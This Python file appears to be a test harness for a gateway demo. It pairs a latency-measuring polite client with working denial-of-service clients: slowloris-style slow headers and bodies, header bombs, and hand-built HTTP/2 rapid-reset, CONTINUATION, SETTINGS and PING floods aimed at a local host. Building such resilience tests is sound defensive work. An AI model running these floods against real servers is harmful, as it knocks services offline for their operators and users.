"""Clients for the show of hostile clients: one that behaves and is measured, and several that do not.

    hostile.py polite HOST PORT SECONDS            prints {"p50": ms, "p99": ms, "errors": n, "requests": n}
    hostile.py ATTACK HOST PORT SECONDS [COUNT]    prints how many connections were cut by the gateway

Attacks come from 127.0.0.2, so that limits by address do not meet the one who behaves. Standard library only.
"""

import asyncio
import json
import struct
import sys
import time

ATTACKER = ("127.0.0.2", 0)
REQUEST = b"GET /api/products?limit=1 HTTP/1.1\r\nhost: show\r\n\r\n"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 2, 3, 4, 6, 9


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def field(name, value):
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


# GET http://show/api/products, by the static table where it has it.
BLOCK = b"\x82\x86" + b"\x04" + bytes([len(b"/api/products")]) + b"/api/products" + b"\x01\x04show"


async def polite(host, port, seconds, rate=100, workers=8):
    """Asks at a steady rate, whatever the answers take: time counts from when a request was due."""
    took, errors = [], 0
    begun = time.perf_counter()

    async def work(place):
        nonlocal errors
        reader = writer = None
        for turn in range(place, int(rate * seconds), workers):
            due = begun + turn / rate
            await asyncio.sleep(max(0.0, due - time.perf_counter()))
            try:
                if writer is None:
                    reader, writer = await asyncio.open_connection(host, port)
                writer.write(REQUEST)
                head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 10)
                lines = head.lower().split(b"\r\n")
                length = next(int(line[15:]) for line in lines if line.startswith(b"content-length:"))
                await asyncio.wait_for(reader.readexactly(length), 10)
                if not head.startswith(b"HTTP/1.1 200"):
                    errors += 1
                took.append(time.perf_counter() - due)
            except (OSError, EOFError, asyncio.TimeoutError, StopIteration):
                errors += 1
                writer = None

    await asyncio.gather(*(work(place) for place in range(workers)))
    took.sort()
    at = lambda share: round(took[min(len(took) - 1, int(len(took) * share))] * 1000, 2) if took else None
    return {"p50": at(0.5), "p99": at(0.99), "errors": errors, "requests": len(took)}


async def drip(host, port, until, first, piece):
    """Sends the start of something, then a piece each second. True if the gateway ended it before us."""
    try:
        reader, writer = await asyncio.open_connection(host, port, local_addr=ATTACKER)
    except OSError:
        return False
    ended = asyncio.ensure_future(reader.read())
    try:
        writer.write(first)
        while time.perf_counter() < until and not ended.done():
            writer.write(piece)
            await asyncio.wait([ended], timeout=1)
        return ended.done()
    except OSError:
        return True
    finally:
        ended.cancel()
        writer.transport.abort()


async def slow(host, port, seconds, count, first, piece):
    until = time.perf_counter() + seconds

    async def join(place):
        # A crowd gathers within two seconds.
        await asyncio.sleep(2 * place / count)
        return await drip(host, port, until, first, piece)

    return sum(await asyncio.gather(*(join(place) for place in range(count))))


async def burst(host, port, pieces):
    """Sends all of it on one connection and waits for its end."""
    try:
        reader, writer = await asyncio.open_connection(host, port, local_addr=ATTACKER)
        try:
            for piece in pieces:
                writer.write(piece)
                await writer.drain()
            writer.write_eof()
            await asyncio.wait_for(reader.read(), 5)
        finally:
            writer.transport.abort()
    except (OSError, asyncio.TimeoutError):
        pass


async def bursts(host, port, seconds, pieces, each_second=20):
    """New connections at a steady rate, each of which sends all of it."""
    tasks, until = [], time.perf_counter() + seconds
    while time.perf_counter() < until:
        tasks.append(asyncio.ensure_future(burst(host, port, pieces())))
        await asyncio.sleep(1 / each_second)
    await asyncio.gather(*tasks)
    return len(tasks)


def http2(frames):
    return lambda: [PREFACE + frame(SETTINGS)] + frames


def resets():
    pairs = [
        frame(HEADERS, 5, stream, BLOCK) + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")
        for stream in range(1, 2001, 2)
    ]
    return [b"".join(pairs[at : at + 50]) for at in range(0, len(pairs), 50)]


UPLOAD = b"POST /api/count HTTP/1.1\r\nhost: show\r\ncontent-length: 100000\r\n\r\n"
BOMB = b"x-bomb: " + b"b" * 1000 + b"\r\n"

ATTACKS = {
    "slow-heads": lambda h, p, s, n: slow(h, p, s, n, b"GET / HTTP/1.1\r\nhost: show\r\n", b"x-slow: 1\r\n"),
    "slow-bodies": lambda h, p, s, n: slow(h, p, s, n, UPLOAD, b"x"),
    "silent": lambda h, p, s, n: slow(h, p, s, n, b"", b""),
    "header-bombs": lambda h, p, s, n: bursts(h, p, s, lambda: [b"GET / HTTP/1.1\r\n"] + [BOMB * 200] * 4),
    "rapid-reset": lambda h, p, s, n: bursts(h, p, s, http2(resets())),
    "continuation": lambda h, p, s, n: bursts(
        h, p, s, http2([frame(HEADERS, 1, 1, BLOCK)] + [frame(CONTINUATION, 0, 1, b"")] * 5000)
    ),
    "settings": lambda h, p, s, n: bursts(h, p, s, http2([frame(SETTINGS) * 500] * 40)),
    "ping": lambda h, p, s, n: bursts(h, p, s, http2([frame(PING, 0, 0, b"12345678") * 500] * 40)),
}


def main():
    what, host, port, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
    if what == "polite":
        print(json.dumps(asyncio.run(polite(host, port, seconds))))
    else:
        count = int(sys.argv[5]) if len(sys.argv) > 5 else 1000
        print(asyncio.run(ATTACKS[what](host, port, seconds, count)))


if __name__ == "__main__":
    main()
